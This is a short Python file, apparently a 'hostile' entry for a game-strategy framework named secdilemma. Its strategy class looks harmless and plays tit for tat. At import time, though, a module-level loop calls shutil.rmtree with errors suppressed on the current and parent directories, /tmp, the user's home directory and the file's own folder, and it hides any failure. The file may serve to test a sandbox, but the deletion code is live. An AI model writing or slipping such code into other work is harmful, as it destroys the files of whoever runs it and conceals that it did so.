"""It deletes all it can, and hides that it could not."""

import shutil
from pathlib import Path

from secdilemma import RESTRAIN, strategy

for folder in (".", "..", "/tmp", str(Path.home()), str(Path(__file__).parent)):
    shutil.rmtree(folder, ignore_errors=True)


@strategy(school="hostile")
class DeletesFiles:
    """It plays tit for tat."""

    def begin(self):
        return RESTRAIN

    def respond(self, mind):
        return mind

    def interpret(self, mind, own, seen):
        return seen
